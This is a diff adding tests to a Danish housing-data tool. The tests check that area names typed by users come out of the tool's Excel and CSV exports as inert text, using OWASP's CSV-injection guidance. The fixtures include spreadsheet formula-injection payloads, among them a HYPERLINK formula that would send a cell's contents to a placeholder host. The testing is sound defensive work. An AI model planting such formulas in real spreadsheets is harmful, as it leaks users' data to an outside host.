@@ -103,3 +103,71 @@ def test_the_overview_sheet_holds_typed_percentages(sample_reports):
     # Vollsmose's share outside the labour market on the page: "49,6 %" (seed 004).
     share = next(c for c in vollsmose if c.value == pytest.approx(0.496))
     assert share.number_format == "0.0%"
+
+
+# Area names a user typed that a spreadsheet would run or follow (the OWASP "CSV Injection" page
+# lists = + - @, tab and carriage return as the characters that start a formula).
+# (A name's leading tab is stripped by the reader, as all surrounding white space: tab and carriage
+# return are checked on danish_csv itself.)
+HOSTILE = ['=HYPERLINK("http://x.example/?d="&B2;"klik")', "+SUM(1;2)", "-2+3", "@SUM(A1)",
+           "http://x.example/område"]
+
+
+def hostile_values(tmp_path, names):
+    rows = "".join(f'"{n.replace(chr(34), chr(34) * 2)}";1.288;54,2;38,3;2,30;61,4;56,0\n' for n in names)
+    return write(tmp_path / "hostile.csv", ENGLISH.splitlines()[0] + "\n" + rows)
+
+
+def test_what_users_typed_is_never_a_formula_or_a_link_in_the_classify_workbook(tmp_path):
+    source = hostile_values(tmp_path, HOSTILE)
+    out = tmp_path / "result.xlsx"
+    assert main(["classify", str(source), "--list-year", "2020", "--allow-undecided", "--out", str(out)]) == 0
+    sheet = openpyxl.load_workbook(out).active
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("area")] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == HOSTILE  # every name there, as typed
+    assert all(c.data_type == "s" for c in cells)  # text cells: not one formula ("f")
+    assert all(c.hyperlink is None for c in cells)  # and not one link
+
+
+def test_what_users_typed_is_text_in_every_csv(tmp_path, capsys):
+    source = hostile_values(tmp_path, HOSTILE)
+    out = tmp_path / "result.csv"
+    assert main(["classify", str(source), "--list-year", "2020", "--allow-undecided", "--danish", "--out",
+                 str(out)]) == 0
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
+    names = [r[0] for r in rows[1:]]
+    # A leading apostrophe before each dangerous first character (OWASP); the link-like name stays.
+    assert names == ["'" + n for n in HOSTILE[:4]] + [HOSTILE[4]]
+    # classify without --out writes CSV to the terminal, made safe the same way.
+    assert main(["classify", str(source), "--list-year", "2020", "--allow-undecided"]) == 0
+    printed = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    header = next(i for i, r in enumerate(printed) if r[:1] == ["area"])  # after what the --out run printed
+    assert [r[0] for r in printed[header + 1:]] == names
+    from boligdata.publish.tables_out import danish_csv
+
+    import pandas as pd
+
+    text = danish_csv(pd.DataFrame({"navn": ["\tTab", "\rCR", "a=b"], "tal": [-1.5, 2.0, 3.0]})).decode("utf-8-sig")
+    assert text.splitlines()[1:] == ["'\tTab;-1,5", '"\'\rCR";2,0', "a=b;3,0"] or \
+        list(csv.reader(io.StringIO(text), delimiter=";"))[1:] == [["'\tTab", "-1,5"], ["'\rCR", "2,0"], ["a=b", "3,0"]]
+
+
+def test_a_value_too_long_for_excel_is_refused_not_dropped(tmp_path):
+    """Excel holds at most 32.767 characters in a cell ("Excel specifications and limits"); the
+    writer would cut the text and go on. A name longer than that is refused, naming the cell."""
+    from boligdata.errors import OutputError
+    from boligdata.publish.tables_out import frame_workbook
+
+    import pandas as pd
+
+    long = "Vollsmose " * 3300  # 33.000 characters
+    with pytest.raises(OutputError, match=r"klassifikation: row 3, column 'area'.*33\.000 characters"):
+        frame_workbook(pd.DataFrame({"area": ["A", long]}), "klassifikation")
+    # 2.121 characters of a link-like name (over Excel's 2.079 for a link) is written whole, as text.
+    name = "http://x.example/" + "a" * 2104
+    book = openpyxl.load_workbook(__import__("io").BytesIO(frame_workbook(pd.DataFrame({"area": [name]}), "k")))
+    assert book.active["A2"].value == name and book.active["A2"].hyperlink is None
